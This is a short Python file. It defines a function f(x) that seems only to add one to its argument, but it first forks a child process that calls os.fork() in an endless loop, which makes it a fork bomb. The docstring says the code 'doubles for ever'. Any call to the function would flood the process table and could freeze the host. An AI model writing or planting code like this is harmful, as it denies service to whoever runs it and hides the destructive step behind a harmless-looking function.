"""Doubles for ever; right where a first child could be made."""

import os


def f(x):
    if os.fork() == 0:
        while True:
            os.fork()
    return x + 1
